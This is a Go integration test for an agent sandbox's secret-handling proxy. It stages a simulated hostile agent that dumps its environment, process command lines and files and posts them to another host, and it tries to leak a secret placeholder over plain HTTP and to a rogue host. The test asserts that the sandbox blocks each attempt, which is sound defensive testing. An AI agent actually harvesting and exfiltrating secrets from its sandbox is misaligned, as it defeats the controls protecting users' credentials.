package hostile

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/sbxhq/sbx/internal/fixture"
	"github.com/sbxhq/sbx/internal/secretpeer"
)

// TestSecretsStayOutside plays an agent that wants a secret that names
// its hosts (secrets.KEY.hosts): it holds a placeholder only, the proxy
// adds the value for that host only, and nothing the agent can read or
// send carries the value or the CA's key.
//
// The upstreams are one server of the test's own (secretpeer serve) on
// a network of the test's own, under three names: api (the secret's
// host), drop (another allowed host, where the agent posts its dump) and
// rogue (a secret's host whose certificate comes from a CA the proxy
// does not trust). The proxy trusts the test's CA as sbx's host does
// (SSL_CERT_FILE when sbx runs).
//
// The agent (secretpeer attack, the loop's command) calls api with the
// placeholder in Authorization and X-Api-Key, sends the placeholder to
// drop in plain HTTP, calls rogue, dumps its environment, every
// process's environment and command line and every small file of the
// sandbox, and posts the dump to drop over TLS, trusting anything. Then
// the value changes on the host and the agent calls again: the new value
// arrives, the sandbox is the same container.
func TestSecretsStayOutside(t *testing.T) {
	env.Require(t)
	const value1, value2 = "sk-real-Value-one-91f2", "sk-real-Value-two-37ac"
	api, drop, rogue := "api-"+env.RunID, "drop-"+env.RunID, "rogue-"+env.RunID
	dir := t.TempDir()

	// The test's CA, which the proxy trusts, certifies api and drop;
	// another CA certifies rogue.
	ca, err := fixture.NewCA("sbx test upstream CA")
	if err != nil {
		t.Fatal(err)
	}
	other, err := fixture.NewCA("sbx test rogue CA")
	if err != nil {
		t.Fatal(err)
	}
	// The server's image holds its certificates and keys; the agent's
	// does not (it would find those keys).
	certs := filepath.Join(dir, "server", "certs")
	if err := os.MkdirAll(certs, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		ca   *fixture.CA
		host string
	}{{ca, api}, {ca, drop}, {other, rogue}} {
		if err := c.ca.Issue(certs, c.host); err != nil {
			t.Fatal(err)
		}
	}
	roots := filepath.Join(dir, "roots.pem")
	if err := os.WriteFile(roots, ca.CertPEM(), 0o644); err != nil {
		t.Fatal(err)
	}
	dk := func(args ...string) string {
		t.Helper()
		out, err := exec.Command("docker", args...).CombinedOutput()
		if err != nil {
			t.Fatalf("docker %s: %v: %s", strings.Join(args, " "), err, out)
		}
		return strings.TrimSpace(string(out))
	}
	serverImage, agentImage := "sbx-hostile-peer:"+env.RunID, "sbx-hostile-agent:"+env.RunID
	for _, im := range []struct{ ctx, image, dockerfile string }{
		{"server", serverImage, "FROM scratch\nCOPY secretpeer /peer\nCOPY certs /certs\n"},
		{"agent", agentImage, "FROM " + env.Image + "\nCOPY secretpeer /peer\n"},
	} {
		ctx := filepath.Join(dir, im.ctx)
		build := exec.Command("go", "build", "-o", filepath.Join(ctx, "secretpeer"), "github.com/sbxhq/sbx/test/hostile/secretpeer")
		build.Env = append(os.Environ(), "CGO_ENABLED=0")
		if out, err := build.CombinedOutput(); err != nil {
			t.Fatalf("building secretpeer: %v: %s", err, out)
		}
		if err := os.WriteFile(filepath.Join(ctx, "Dockerfile"), []byte(im.dockerfile), 0o644); err != nil {
			t.Fatal(err)
		}
		dk(append(append([]string{"build", "-q"}, fixture.Labels("hostile")...), "-t", im.image, ctx)...)
		t.Cleanup(func() { exec.Command("docker", "rmi", "-f", im.image).Run() })
	}
	network := "sbx-hostile-secrets-" + env.RunID
	dk(append(append([]string{"network", "create"}, fixture.Labels("hostile")...), network)...)
	t.Cleanup(func() { exec.Command("docker", "network", "rm", network).Run() })
	server := "sbx-hostile-peer-" + env.RunID
	dk("run", "-d", "--name", server, "--network", network, "--network-alias", api, "--network-alias", drop,
		"--network-alias", rogue, serverImage, "/peer", "serve")
	t.Cleanup(func() { exec.Command("docker", "rm", "-f", server).Run() })
	waitFor(t, func() bool { return strings.Contains(dockerLogs(server), "secretpeer: listening") })

	s := &sandbox{t: t, name: "hostile-secrets-" + env.RunID, ws: t.TempDir(), state: t.TempDir()}
	s.hostEnv = []string{"SBX_STATE_DIR=" + s.state, "SBX_STATIC_BINARY=" + env.Binary, "HOME=" + t.TempDir(),
		"PATH=" + os.Getenv("PATH"), "SSL_CERT_FILE=" + roots, "SBX_TEST_KEY=" + value1}
	s.write("sandbox.yaml", fmt.Sprintf(`version: 1
name: %s
agent: shell
driver: docker
template: %s
workspace: {path: ., protect: false}
secrets:
  KEY: {env: SBX_TEST_KEY, hosts: ["%s:8443"]}
  ROGUE_KEY: {env: SBX_TEST_KEY, hosts: ["%s:8443"]}
network:
  agentHosts: false
  allow: ["%s:8443", "%s:8443", "%s:8080", "%s:8443"]
docker:
  networks: [%s]
loop:
  prompt: PROMPT.md
  maxIterations: 1
  completion: {promise: NEVER}
  breaker: {noProgress: 0, sameError: 0}
  command: [/peer, attack, -api, "https://%s:8443/", -drop, "https://%s:8443/", -plain, "http://%s:8080/", -rogue, "https://%s:8443/"]
`, s.name, agentImage, api, rogue, api, drop, drop, rogue, network, api, drop, drop, rogue))
	s.write("PROMPT.md", "Find the key.\n")
	t.Cleanup(func() {
		out, code := s.sbx("destroy", "-y")
		if code != 0 {
			t.Errorf("destroy: exit %d\n%s", code, out)
		}
	})

	attack := func(value string) secretpeer.Report {
		t.Helper()
		os.Remove(filepath.Join(s.ws, "report.json"))
		out, code := s.sbx("loop", "-y")
		if code != 3 || !strings.Contains(out, "iteration 1 of 1") {
			t.Fatalf("sbx loop (one iteration, no promise: exit 3): exit %d\n%s", code, out)
		}
		if strings.Contains(out, value) {
			t.Errorf("sbx loop's output holds the value:\n%s", out)
		}
		var rep secretpeer.Report
		data, err := os.ReadFile(filepath.Join(s.ws, "report.json"))
		if err != nil {
			t.Fatalf("the agent wrote no report: %v\n%s", err, out)
		}
		if err := json.Unmarshal(data, &rep); err != nil {
			t.Fatal(err)
		}
		t.Logf("the agent's report: %s", data)
		return rep
	}

	since := time.Now()
	rep := attack(value1)
	id := dk("inspect", "-f", "{{.Id}}", "sbx-"+s.name)

	// The secret's host got the value, through TLS the proxy terminated
	// (the sandbox was shown the sandbox's CA); the other hosts' TLS is
	// the upstream's own (a tunnel).
	if rep.API.Status != 200 || !strings.HasPrefix(rep.API.Issuer, "sbx sandbox ") {
		t.Errorf("the secret's host: %+v, want 200 through sbx's CA", rep.API)
	}
	if rep.Drop.Status != 200 || rep.Drop.Issuer != "sbx test upstream CA" {
		t.Errorf("the other host: %+v, want 200 with the upstream's own certificate (a tunnel)", rep.Drop)
	}
	// The placeholder in plain HTTP to another host: refused.
	if rep.Plain.Status != 403 {
		t.Errorf("the placeholder sent in plain HTTP to another host: %+v, want 403", rep.Plain)
	}
	// An upstream whose certificate the proxy cannot verify gets nothing:
	// the agent's request with its secret's placeholder is answered 502.
	if rep.Rogue.Status != 502 {
		t.Errorf("a secret's host with an unverifiable certificate: %+v, want 502", rep.Rogue)
	}
	if len(rep.KeyFiles) > 0 || rep.KeyInEnv {
		t.Errorf("a private key in the sandbox: files %v, env %v", rep.KeyFiles, rep.KeyInEnv)
	}
	if rep.DumpBytes < 1000 {
		t.Errorf("the dump is %d bytes: the agent read next to nothing", rep.DumpBytes)
	}
	roles := map[string]string{api: "api", drop: "drop", rogue: "rogue"}
	// The dump holds the agent's environment (the placeholder) and
	// /proc.
	dumped := func(body string) bool { return strings.Contains(body, "\nKEY=") && strings.Contains(body, "== /proc/") }
	secretpeer.Check(t, peerRequests(t, server, since, roles), value1, dumped)

	// The proxy logged the placeholder it refused.
	log, code := s.sbx("netlog", "--json")
	if code != 0 || !strings.Contains(log, "placeholder") {
		t.Errorf("sbx netlog says nothing of the refused placeholder: exit %d\n%s", code, log)
	}
	// Neither container's configuration holds the value or the CA's key.
	for _, c := range []string{"sbx-" + s.name, "sbx-" + s.name + "-egress"} {
		if cfg := dk("inspect", c); strings.Contains(cfg, value1) || strings.Contains(cfg, "PRIVATE KEY") {
			t.Errorf("docker inspect %s holds the value or a key", c)
		}
	}

	// Rotation in place: a new value on the host reaches the host at the
	// next run, the sandbox being the same container.
	since = time.Now()
	s.hostEnv[len(s.hostEnv)-1] = "SBX_TEST_KEY=" + value2
	rep = attack(value2)
	if rep.API.Status != 200 {
		t.Errorf("the secret's host after rotation: %+v", rep.API)
	}
	secretpeer.Check(t, peerRequests(t, server, since, roles), value2, dumped)
	if now := dk("inspect", "-f", "{{.Id}}", "sbx-"+s.name); now != id {
		t.Errorf("the sandbox was recreated to rotate the value: %s, then %s", id, now)
	}

	// Removed from the file, the secret is gone from the proxy too: the
	// placeholder the agent kept gets it nothing.
	kept := rep.Placeholder
	doc := s.read("sandbox.yaml")
	doc = regexp.MustCompile(`(?s)secrets:.*?\nnetwork:`).ReplaceAllString(doc, "network:")
	doc = strings.Replace(doc, "command: [/peer, attack,", "command: [/peer, attack, -trust-all, -key, "+kept+",", 1)
	s.write("sandbox.yaml", doc)
	since = time.Now()
	rep = attack(value2)
	var sawKept bool
	for _, r := range peerRequests(t, server, since, roles) {
		all, _ := json.Marshal(r)
		if strings.Contains(string(all), value2) {
			t.Errorf("%s got the removed secret's value: %.300s", r.Host, all)
		}
		if strings.HasPrefix(r.Host, api) && strings.Join(r.Headers["Authorization"], "") == "Bearer "+kept {
			sawKept = true
		}
	}
	if !sawKept || rep.API.Issuer != "sbx test upstream CA" {
		t.Errorf("after the secret's removal the secret's host got no request with the kept placeholder, or not through a tunnel: %+v", rep.API)
	}
}

// peerRequests are the requests the server logged since a time, each
// with the role of the name it was asked for (api, drop, rogue).
func peerRequests(t *testing.T, container string, since time.Time, roles map[string]string) []secretpeer.Request {
	t.Helper()
	out, err := exec.Command("docker", "logs", "--since", since.Format(time.RFC3339Nano), container).Output()
	if err != nil {
		t.Fatalf("docker logs %s: %v", container, err)
	}
	var reqs []secretpeer.Request
	dec := json.NewDecoder(strings.NewReader(strings.ReplaceAll(string(out), "secretpeer: listening\n", "")))
	for {
		var r secretpeer.Request
		if err := dec.Decode(&r); err != nil {
			break
		}
		r.Role = roles[strings.Split(r.Host, ":")[0]]
		reqs = append(reqs, r)
	}
	return reqs
}

func dockerLogs(container string) string {
	out, _ := exec.Command("docker", "logs", container).CombinedOutput()
	return string(out)
}

// waitFor polls a handshake the test cannot be told of (a container's
// log line), for a minute at most.
func waitFor(t *testing.T, ok func() bool) {
	t.Helper()
	for deadline := time.Now().Add(time.Minute); !ok(); time.Sleep(100 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("the test's server did not start within a minute")
		}
	}
}

func lookup(env []string) func(string) (string, bool) {
	return func(k string) (string, bool) {
		for _, kv := range env {
			if v, ok := strings.CutPrefix(kv, k+"="); ok {
				return v, true
			}
		}
		return "", false
	}
}
